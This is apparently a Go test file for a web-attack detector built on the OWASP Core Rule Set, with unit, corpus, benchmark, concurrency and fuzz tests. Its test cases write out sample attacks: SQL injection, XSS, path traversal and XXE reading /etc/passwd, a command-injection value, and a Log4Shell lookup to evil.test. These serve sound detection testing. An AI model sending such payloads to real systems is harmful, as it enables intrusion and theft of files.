package detect

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/vigilsec/vigil"
)

var (
	crsOnce sync.Once
	crsPL1  *CRS
	crsErr  error
)

// crs1 is one CRS engine at paranoia level 1 shared by the tests: compiling
// the rules takes a fraction of a second.
func crs1(t testing.TB) *CRS {
	t.Helper()
	crsOnce.Do(func() { crsPL1, crsErr = NewCRS(CRSConfig{}) })
	if crsErr != nil {
		t.Fatal(crsErr)
	}
	return crsPL1
}

func TestCRS(t *testing.T) {
	d := crs1(t)
	if d.Paranoia() != 1 {
		t.Fatalf("paranoia %d, want 1 by default", d.Paranoia())
	}
	cases := []detCase{
		{"sqli in query", ex("GET", "https://a.test/s?id=1%27+UNION+SELECT+password+FROM+users--"), "SQL injection"},
		{"sqli in JSON", ex("POST", "https://a.test/o", body("application/json", `{"a":{"name":"1' OR '1'='1"}}`)), "SQL injection"},
		{"xss in form", ex("POST", "https://a.test/p", body("application/x-www-form-urlencoded", "bio=%3Cscript%3Ealert(1)%3C%2Fscript%3E")), "XSS"},
		{"path traversal", ex("GET", "https://a.test/f?name=..%2F..%2F..%2Fetc%2Fpasswd"), "local file inclusion"},
		{"command injection", ex("GET", "https://a.test/ping?host=1.1.1.1%3Bcat+%2Fetc%2Fpasswd"), "remote command execution"},
		{"log4shell header", ex("GET", "https://a.test/", hdr("X-Api-Version", "${jndi:ldap://evil.test/a}")), "Java attack"},
		{"scanner user agent", ex("GET", "https://a.test/", hdr("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")), "scanner detection"},
		{"benign search", ex("GET", "https://a.test/s?q=drop-leaf+table&limit=20"), ""},
		{"benign JSON order", ex("POST", "https://a.test/orders", body("application/json", `{"items":[{"sku":"A-1","qty":2}],"note":"leave at the door"}`)), ""},
		{"benign PATCH", ex("PATCH", "https://a.test/users/me", body("application/json", `{"display_name":"O'Brien"}`)), ""},
		{"benign DELETE without body", ex("DELETE", "https://a.test/cart/items/5"), ""},
		{"benign bold comment", ex("POST", "https://a.test/r", body("application/json", `{"comment":"<b>great</b> product"}`)), ""},
	}
	runCases(t, d, CRSID, cases)
}

func TestCRSFinding(t *testing.T) {
	d := crs1(t)
	x := ex("POST", "https://a.test/login", body("application/json", `{"email":"a@b.c","password":"' OR 1=1--"}`))
	fs, err := d.Analyze(context.Background(), x)
	if err != nil || len(fs) != 1 {
		t.Fatalf("Analyze = %v, %v; want one finding", fs, err)
	}
	f := fs[0]
	checkFinding(t, CRSID, x, f)
	if f.Category != vigil.API8Misconfiguration || f.Severity != vigil.SeverityHigh || !strings.HasPrefix(f.Title, "CRS 942") {
		t.Errorf("finding %s category %s severity %v", f.Title, f.Category, f.Severity)
	}
	for _, e := range f.Evidence {
		if strings.Contains(e.Value, "OR 1=1") {
			t.Errorf("evidence shows a password: %+v", e)
		}
		if !strings.Contains(e.Why, "CRS rule 9") {
			t.Errorf("evidence does not name its rule: %+v", e)
		}
	}
}

func TestCRSParanoia(t *testing.T) {
	for _, pl := range []int{-1, 5} {
		if _, err := NewCRS(CRSConfig{Paranoia: pl}); err == nil || !strings.Contains(err.Error(), "out of range") {
			t.Errorf("paranoia %d: err = %v", pl, err)
		}
	}
	if testing.Short() {
		t.Skip("compiles the rules at level 4")
	}
	d4, err := NewCRS(CRSConfig{Paranoia: 4})
	if err != nil {
		t.Fatal(err)
	}
	// A value only the higher levels object to: many special characters.
	x := ex("GET", "https://a.test/s?q=%7E%7E%7E%21%21%21%40%40%40%23%23%23%24%24%24")
	f1, _ := crs1(t).Analyze(context.Background(), x)
	f4, _ := d4.Analyze(context.Background(), x)
	if len(f1) != 0 || len(f4) != 1 {
		t.Errorf("special characters: %d findings at level 1, %d at level 4; want 0 and 1", len(f1), len(f4))
	}
}

// TestCRSCorpus runs CRS at paranoia level 1 over the labelled corpus and
// prints its detection of the request attacks the built-in injection and
// SSRF detectors find, and its false-positive rate on the benign
// near-misses. The bars only guard against regressions: CRS is known to be
// noisy on API traffic (GraphQL queries, shell words in free text).
func TestCRSCorpus(t *testing.T) {
	if testing.Short() {
		t.Skip("runs the corpus through CRS")
	}
	d := crs1(t)
	xs, want := loadCorpus(t)
	ids := []string{"detect.injection.sqli", "detect.injection.xss", "detect.injection.other", "detect.ssrf"}
	hit, att := map[string]int{}, map[string]int{}
	benign, benignHit := 0, 0
	for i := range xs {
		fs, err := d.Analyze(context.Background(), &xs[i])
		if err != nil {
			t.Fatal(err)
		}
		w := want[xs[i].ID]
		if len(w) == 0 {
			benign++
			if len(fs) > 0 {
				benignHit++
			}
		}
		for _, id := range ids {
			for _, l := range w {
				if l == id {
					att[id]++
					if len(fs) > 0 {
						hit[id]++
					}
				}
			}
		}
	}
	var b strings.Builder
	fmt.Fprintf(&b, "\nCRS paranoia 1 on the corpus\n%-28s %7s %9s\n", "attacks labelled", "count", "detected")
	for _, id := range ids {
		fmt.Fprintf(&b, "%-28s %7d %9.3f\n", id, att[id], ratio(hit[id], att[id]))
	}
	rate := ratio(benignHit, benign)
	fmt.Fprintf(&b, "benign exchanges: %d, with a CRS finding: %d, false-positive rate %.3f\n", benign, benignHit, rate)
	t.Log(b.String())
	if testing.Verbose() {
		fmt.Print(b.String())
	}
	if r := ratio(hit["detect.injection.sqli"]+hit["detect.injection.xss"], att["detect.injection.sqli"]+att["detect.injection.xss"]); r < 0.85 {
		t.Errorf("CRS detects %.3f of SQLi and XSS attacks, want >= 0.85", r)
	}
	if rate > 0.25 {
		t.Errorf("CRS false-positive rate %.3f on benign traffic, want <= 0.25", rate)
	}
}

// BenchmarkCRS times CRS at paranoia level 1 beside all the built-in
// detectors (the baseline) in the same run, over the benign part of the
// corpus, and logs the cost per exchange of each and their ratio.
func BenchmarkCRS(b *testing.B) {
	xs, want := loadCorpus(b)
	var benign []vigil.Exchange
	for _, x := range xs {
		if len(want[x.ID]) == 0 {
			benign = append(benign, x)
		}
	}
	builtin, err := New(Builtin())
	if err != nil {
		b.Fatal(err)
	}
	crs := []vigil.Analyzer{crs1(b)}
	var base, crsOnly, both float64
	run := func(as []vigil.Analyzer, out *float64) func(b *testing.B) {
		return func(b *testing.B) {
			ctx := context.Background()
			b.ReportAllocs()
			i := 0
			for b.Loop() {
				x := &benign[i%len(benign)]
				i++
				for _, a := range as {
					if _, err := a.Analyze(ctx, x); err != nil {
						b.Fatal(err)
					}
				}
			}
			*out = b.Elapsed().Seconds() / float64(b.N)
			b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "exchanges/s")
		}
	}
	b.Run("builtin", run(builtin, &base))
	b.Run("crs", run(crs, &crsOnly))
	b.Run("builtin+crs", run(append(append([]vigil.Analyzer{}, builtin...), crs...), &both))
	if base > 0 {
		b.Logf("per exchange: builtin %.1f µs, crs %.1f µs, builtin+crs %.1f µs; builtin+crs / builtin = %.1f",
			base*1e6, crsOnly*1e6, both*1e6, both/base)
	}
}

// TestCRSConcurrent runs one CRS engine from several goroutines, as the
// pipeline's workers do (run with -race).
func TestCRSConcurrent(t *testing.T) {
	d := crs1(t)
	xs := []*vigil.Exchange{
		ex("GET", "https://a.test/s?id=1%27+OR+1%3D1--"),
		ex("POST", "https://a.test/o", body("application/json", `{"a":"<script>alert(1)</script>"}`)),
		ex("GET", "https://a.test/products?limit=20"),
	}
	want := make([]int, len(xs))
	for i, x := range xs {
		fs, _ := d.Analyze(context.Background(), x)
		want[i] = len(fs)
	}
	var wg sync.WaitGroup
	for range 4 {
		wg.Go(func() {
			for range 10 {
				for i, x := range xs {
					if fs, err := d.Analyze(context.Background(), x); err != nil || len(fs) != want[i] {
						t.Errorf("exchange %d: %d findings, %v; want %d", i, len(fs), err, want[i])
					}
				}
			}
		})
	}
	wg.Wait()
}

// FuzzCRS hands hostile requests to Coraza through the CRS detector: no
// panic, no error, bounded evidence.
func FuzzCRS(f *testing.F) {
	f.Add("q=%27+OR+1%3D1--", "application/json", []byte(`{"a":{"b":["<svg onload=alert(1)>"]}}`))
	f.Add("a[b][c]=1&a[]=2", "application/x-www-form-urlencoded", []byte("x=%00%ff&y=${jndi:ldap://x}"))
	f.Add("", "multipart/form-data; boundary=X", []byte("--X\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../a.php\"\r\n\r\n<?php ?>\r\n--X--\r\n"))
	f.Add("", "application/xml", []byte(`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`))
	d := crs1(f)
	f.Fuzz(func(t *testing.T, rawQuery, ct string, b []byte) {
		x := &vigil.Exchange{
			Request:  vigil.Request{Method: "POST", URL: &url.URL{Scheme: "https", Host: "a.test", Path: "/p", RawQuery: rawQuery}, Header: http.Header{"Content-Type": {ct}}, Body: b, BodySize: int64(len(b))},
			Response: &vigil.Response{Status: 200},
		}
		fs, err := d.Analyze(context.Background(), x)
		if err != nil {
			t.Fatal(err)
		}
		for _, fd := range fs {
			if len(fd.Evidence) > maxEvidence {
				t.Fatalf("%d evidence items", len(fd.Evidence))
			}
			for _, e := range fd.Evidence {
				if len([]rune(e.Value)) > maxEvidenceValue || len([]rune(e.Where)) > maxEvidenceValue {
					t.Fatalf("evidence too long: %+v", e)
				}
			}
		}
	})
}
